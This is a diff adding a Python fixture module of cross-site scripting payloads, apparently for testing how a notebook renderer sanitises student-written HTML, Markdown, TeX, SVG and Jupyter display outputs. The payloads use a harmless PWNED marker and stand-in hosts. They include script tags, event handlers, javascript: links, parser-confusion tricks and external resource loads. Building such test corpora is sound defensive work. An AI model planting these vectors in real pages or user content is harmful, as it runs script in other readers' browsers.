@@ -1,0 +1,98 @@
+"""What a student might write to have it run in the browser of whoever reads the page."""
+
+MARK = "PWNED"  # stands in every payload where it would act
+
+HTML = (
+    "<script>PWNED()</script>",
+    "<ScRiPt src=//x/PWNED.js></sCrIpT>",
+    '<img src=x onerror="PWNED()">',
+    "<img/src/onerror=PWNED()>",
+    "<svg onload=PWNED()></svg>",
+    "<svg><script>PWNED()</script></svg>",
+    '<svg><a xlink:href="javascript:PWNED()"><text y="9">x</text></a></svg>',
+    '<svg><use href="https://x/PWNED#a"/></svg>',
+    "<svg><animate onbegin=PWNED() attributeName=x dur=1s /></svg>",
+    '<svg><foreignObject><iframe src="https://x/PWNED"></iframe></foreignObject></svg>',
+    '<a href="javascript:PWNED()">x</a>',
+    '<a href="JaVaScRiPt&#58;PWNED()">x</a>',
+    '<a href="java\tscript:PWNED()">x</a>',
+    '<a href=" &#14; javascript:PWNED()">x</a>',
+    '<a href="data:text/html,<script>PWNED()</script>">x</a>',
+    '<a href="vbscript:PWNED()">x</a>',
+    '<a ping="https://x/PWNED" href="#a">x</a>',
+    '<iframe src="https://x/PWNED"></iframe>',
+    '<iframe srcdoc="<script>PWNED()</script>"></iframe>',
+    '<object data="https://x/PWNED.swf"></object>',
+    "<embed src=https://x/PWNED>",
+    '<form action="https://x/PWNED"><input name=a autofocus onfocus=PWNED()><button>x</button></form>',
+    '<base href="https://PWNED/">',
+    '<meta http-equiv="refresh" content="0;url=https://PWNED/">',
+    '<link rel="stylesheet" href="https://PWNED/x.css">',
+    '<style>@import "https://PWNED/";</style>',
+    '<div style="background:url(https://PWNED/)">x</div>',
+    '<img src="https://x/PWNED.png">',
+    '<img src="//x/PWNED.png">',
+    '<img srcset="https://x/PWNED.png 1x">',
+    '<video src="https://x/PWNED.mp4" autoplay></video>',
+    '<audio src="https://x/PWNED.mp3" onerror=PWNED()></audio>',
+    '<table background="https://x/PWNED.png"><tr><td>x</td></tr></table>',
+    "<math><mtext><script>PWNED()</script></mtext></math>",
+    '<math><mi xlink:href="javascript:PWNED()">x</mi></math>',
+    "<details ontoggle=PWNED() open>x</details>",
+    "<body onload=PWNED()>",
+    "<template><script>PWNED()</script></template>",
+    "<xss onmouseover=PWNED()>x</xss>",
+    '<noscript><p title="</noscript><img src=x onerror=PWNED()>"></noscript>',
+    '<textarea><p title="</textarea><img src=x onerror=PWNED()>"></textarea>',
+    "<!--><img src=x onerror=PWNED()>-->",
+    '<p id="x" class="x" name="x" onclick=PWNED()>x</p>',
+    "</pre></div></main></body><script>PWNED()</script>",
+)
+MARKDOWN = (
+    "[x](javascript:PWNED())",
+    "[x](<javascript:PWNED()>)",
+    "[x][y]\n\n[y]: javascript:PWNED()",
+    "<javascript:PWNED()>",
+    "![x](javascript:PWNED())",
+    "![x](https://x/PWNED.png)",
+    "![x](attachment:PWNED.png)",
+    '[x](https://x.example "\\" onmouseover=PWNED()")',
+    '```mermaid\ngraph TD; A-->B["<img src=x onerror=PWNED()>"]\n```',
+    '```" onmouseover="PWNED()\nx\n```',
+)
+# TeX that MathJax would turn into links, classes, styles or HTML.
+TEX = (
+    r"\href{javascript:PWNED()}{x}",
+    r"\class{PWNED}{x}",
+    r"\cssId{PWNED}{x}",
+    r"\style{background:url(https://PWNED)}{x}",
+    r"\html{<img src=x onerror=PWNED()>}",
+    r"\require{html}\def\x{\href{javascript:PWNED()}{x}}\x",
+)
+_SVG = '<svg xmlns="http://www.w3.org/2000/svg"'
+_RECT = '<rect width="9" height="9"/>'
+SVG = (
+    f"{_SVG}><script>PWNED()</script>{_RECT}</svg>",
+    f'{_SVG} onload="PWNED()">{_RECT}</svg>',
+    f'{_SVG}><image href="https://x/PWNED.png"/></svg>',
+    f'{_SVG}><a href="javascript:PWNED()">{_RECT}</a></svg>',
+    f"{_SVG}><style>@import url(https://PWNED)</style>{_RECT}</svg>",
+    f'{_SVG}><rect fill="url(https://PWNED/#a)" width="9" height="9"/></svg>',
+    f'<!DOCTYPE svg [<!ENTITY x "PWNED">]>{_SVG}><text>&x;</text></svg>',
+)
+# Cells whose outputs would act.
+CELLS = (
+    "from IPython.display import display, HTML, SVG, Javascript, Latex, Markdown",
+    *(f"display(HTML({payload!r}))" for payload in HTML),
+    *(f"display(Markdown({payload!r}))" for payload in (*MARKDOWN, HTML[0], HTML[2])),
+    *(f"display({{'image/svg+xml': {payload!r}}}, raw=True)" for payload in SVG),
+    *(f"display(Latex({'$' + payload + '$'!r}))" for payload in TEX),
+    "display(Javascript('PWNED()'))",
+    "display({'application/javascript': 'PWNED()', 'text/plain': 'x'}, raw=True)",
+    "display({'application/vnd.jupyter.widget-view+json': {'model_id': 'PWNED'}}, raw=True)",
+    "display({'text/html': '<script>PWNED()</script>', 'x/<script>PWNED()</script>': '1'}, raw=True)",
+    "display({'image/png': '\" onerror=\"PWNED()'}, raw=True)",
+    "print('<script>PWNED()</script>\\x1b[31m<img src=x onerror=PWNED()>')",
+    "raise type('<script>PWNED()</script>', (Exception,), {})('<img src=x onerror=PWNED()>')",
+    "'<script>PWNED()</script>'",
+)
